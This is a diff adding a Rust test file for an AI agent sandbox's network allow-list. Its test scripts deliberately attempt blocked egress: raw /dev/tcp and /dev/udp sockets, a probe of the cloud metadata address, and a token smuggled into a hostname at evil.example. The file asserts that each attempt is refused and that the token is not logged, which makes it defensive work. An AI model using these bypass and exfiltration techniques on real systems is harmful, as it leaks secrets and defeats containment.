@@ -1,0 +1,180 @@
+//! Programs without a network that reach what is listed, and nothing else (S11).
+
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpListener};
+use std::sync::mpsc;
+use std::time::Duration;
+
+use regatta_agents::confine::{self, Mechanism};
+use regatta_core::agent::{Level, Profile};
+use regatta_engine::ports::agents::{Agents, Exit, Launch, McpServer, Stream};
+
+use crate::support::{A1, LONG, World, adapter, eventually, fixture};
+
+/// A server on loopback that answers every connection with a line, and hands over what it was asked.
+fn server(says: &'static str) -> (SocketAddr, mpsc::Receiver<String>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    let (give, heard) = mpsc::channel();
+    std::thread::spawn(move || {
+        for client in listener.incoming() {
+            let mut client = client.unwrap();
+            let mut asked = [0; 1024];
+            let length = client.read(&mut asked).unwrap_or(0);
+            drop(give.send(String::from_utf8_lossy(&asked[..length]).into_owned()));
+            drop(client.write_all(says.as_bytes()));
+        }
+    });
+    (address, heard)
+}
+
+/// A confined launch of a bash script that may reach these hosts only.
+fn launch(world: &World, level: Level, hosts: &[String], script: &str) -> Launch {
+    let profile = Profile { confine: Some(level), egress: hosts.to_vec(), ..Profile::default() };
+    Launch { profile, ..world.launch(&["bash", "-c", script]) }
+}
+
+/// Whether this machine has what a list of hosts needs.
+fn has_namespaces() -> bool {
+    let best = confine::available(fixture().as_ref()).best();
+    matches!(best, Some(Mechanism::Bubblewrap | Mechanism::Namespaces))
+}
+
+/// Asks the proxy for something in bash alone, and prints the first line of the answer.
+const ASK: &str = r#"
+P=${HTTPS_PROXY#http://}
+ask() { exec 3<>/dev/tcp/${P%:*}/${P#*:} && printf "$1 HTTP/1.1\r\nHost: x\r\n\r\n" >&3 && head -1 <&3 | tr -d '\r'; exec 3>&-; }
+"#;
+
+#[test]
+fn s11_a_listed_host_is_reached_and_no_other() {
+    if !has_namespaces() {
+        return;
+    }
+    let (listed, heard) = server("HTTP/1.1 200 served\r\n\r\n");
+    let (other, not_heard) = server("HTTP/1.1 200 not this\r\n\r\n");
+    let world = World::new();
+    let script = format!(
+        "{ASK}
+ask 'GET http://{listed}/x?y'
+ask 'GET http://{other}/'
+ask 'CONNECT {other}'
+ask 'CONNECT localhost:{port}'
+ask 'CONNECT sub.listed.example:8443'
+ask 'CONNECT 169.254.169.254:80'
+for to in {listed} {other} 192.0.2.1:443; do (exec 4<>/dev/tcp/${{to%:*}}/${{to#*:}}) 2>/dev/null && echo straight to $to; done
+exec 5<>/dev/udp/192.0.2.1/53 2>/dev/null && echo udp
+env | grep -ci _proxy
+ls -A $TMPDIR | grep egress; true",
+        port = listed.port()
+    );
+    let hosts = [listed.to_string(), format!("localhost:{}", other.port()), "*.listed.example".to_owned()];
+    world.adapter.start(&launch(&world, Level::Strict, &hosts, &script)).unwrap();
+    assert_eq!(world.wait(), Exit::Code(0), "{}", world.log());
+    let refused = "HTTP/1.1 403 Forbidden\n".repeat(5);
+    assert_eq!(world.lines(Stream::Out).join("\n"), format!("HTTP/1.1 200 served\n{refused}9"), "{}", world.log());
+    assert!(heard.recv_timeout(LONG).unwrap().starts_with("GET /x?y HTTP/1.1\r\nHost: 127.0.0.1:"));
+    assert!(not_heard.try_recv().is_err());
+    let marks: Vec<String> =
+        world.records().iter().filter(|it| it.stream == Stream::Mark).filter_map(regatta_agents::printed).collect();
+    // The second time is not told again.
+    assert_eq!(marks.len(), 4, "{marks:?}");
+    assert!(marks[0].contains(&format!("[{other} was refused: it is not on the agent's list")), "{marks:?}");
+    world.assert_nothing_runs();
+}
+
+#[test]
+fn s11_a_listed_name_does_not_lead_to_this_machine() {
+    if !has_namespaces() {
+        return;
+    }
+    let (address, heard) = server("HTTP/1.1 200 served\r\n\r\n");
+    let name = format!("localhost:{}", address.port());
+    for (also, answer) in [(None, "403 Forbidden"), (Some(address.to_string()), "200 served")] {
+        let world = World::new();
+        let hosts: Vec<String> = also.iter().cloned().chain([name.clone()]).collect();
+        world
+            .adapter
+            .start(&launch(&world, Level::Workspace, &hosts, &format!("{ASK} ask 'GET http://{name}/'")))
+            .unwrap();
+        assert_eq!(world.wait(), Exit::Code(0), "{}", world.log());
+        assert_eq!(world.lines(Stream::Out), [format!("HTTP/1.1 {answer}")], "{}", world.log());
+        assert_eq!(heard.try_recv().is_ok(), also.is_some());
+        assert_eq!(world.lines(Stream::Mark).iter().any(|it| it.contains("leads to 127.0.0.1")), also.is_none());
+    }
+}
+
+#[test]
+fn the_tools_are_reached_without_a_network_at_their_own_address() {
+    if !has_namespaces() {
+        return;
+    }
+    let (tools, heard) = server("HTTP/1.1 200 tools\r\n\r\n");
+    let (other, _) = server("HTTP/1.1 200 not this\r\n\r\n");
+    for hosts in [vec![], vec!["api.example.com".to_owned()]] {
+        let world = World::new();
+        let script = format!(
+            "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'POST /mcp HTTP/1.1\\r\\n\\r\\n' >&3; head -1 <&3 | tr -d '\\r'; (exec 4<>/dev/tcp/127.0.0.1/{}) 2>/dev/null || echo closed",
+            tools.port(),
+            other.port()
+        );
+        let mut launch = launch(&world, Level::Strict, &hosts, &script);
+        launch.mcp = Some(McpServer { url: format!("http://{tools}/mcp"), token: "t0ken".to_owned() });
+        world.adapter.start(&launch).unwrap();
+        assert_eq!(world.wait(), Exit::Code(0), "{}", world.log());
+        assert_eq!(world.lines(Stream::Out), ["HTTP/1.1 200 tools", "closed"], "{}", world.log());
+        assert!(heard.recv_timeout(LONG).unwrap().starts_with("POST /mcp"));
+    }
+}
+
+#[test]
+fn p1_the_way_out_outlives_the_daemon_and_ends_with_the_program() {
+    if !has_namespaces() {
+        return;
+    }
+    let (address, _heard) = server("HTTP/1.1 200 served\r\n\r\n");
+    let world = World::new();
+    let script = format!(
+        "{ASK} ask 'GET http://{address}/1'; touch first; until test -e again; do sleep 0.02; done; ask 'GET http://{address}/2'; (setsid sleep 1000 &) ; exec 3>&-; touch second; exec sleep 1000"
+    );
+    world.adapter.start(&launch(&world, Level::Strict, &[address.to_string()], &script)).unwrap();
+    world.wait_for("first");
+    // A daemon that starts anew knows nothing but the disk.
+    let restarted = adapter(&world.data());
+    std::fs::write(world.workspace.join("again"), "").unwrap();
+    world.wait_for("second");
+    eventually("both are printed", || world.lines(Stream::Out).len() == 2);
+    assert_eq!(world.lines(Stream::Out), ["HTTP/1.1 200 served"; 2]);
+    let shim = world.shim();
+    restarted.stop(A1, Duration::ZERO).unwrap();
+    eventually("the shim is gone", || !std::path::Path::new(&format!("/proc/{}/task", shim.pid)).exists());
+    world.assert_nothing_runs();
+}
+
+#[test]
+fn s4_a_secret_in_a_refused_host_is_not_told() {
+    if !has_namespaces() {
+        return;
+    }
+    let world = World::new();
+    let secret = "s3cretValueThatIsLong";
+    let script = format!("{ASK} ask 'CONNECT {secret}.evil.example:443'");
+    let mut launch = launch(&world, Level::Workspace, &["api.example.com".to_owned()], &script);
+    launch.mcp = Some(McpServer { url: "http://127.0.0.1:61234/mcp".to_owned(), token: secret.to_owned() });
+    world.adapter.start(&launch).unwrap();
+    assert_eq!(world.wait(), Exit::Code(0), "{}", world.log());
+    let marks = world.lines(Stream::Mark);
+    assert!(marks[0].contains(".evil.example:443") && !marks[0].contains(secret), "{marks:?}");
+}
+
+#[test]
+fn s11_a_list_that_cannot_be_kept_starts_nothing() {
+    let world = World::new();
+    let off = launch(&world, Level::Off, &["api.example.com".to_owned()], "touch started");
+    let error = world.adapter.start(&off).unwrap_err();
+    assert!(error.what.contains("is not to be confined"), "{}", error.what);
+    let odd = launch(&world, Level::Strict, &["*".to_owned()], "touch started");
+    let error = world.adapter.start(&odd).unwrap_err();
+    assert!(error.what.contains("is no host") || error.what.contains("Landlock"), "{}", error.what);
+    assert!(!world.workspace.join("started").exists());
+}
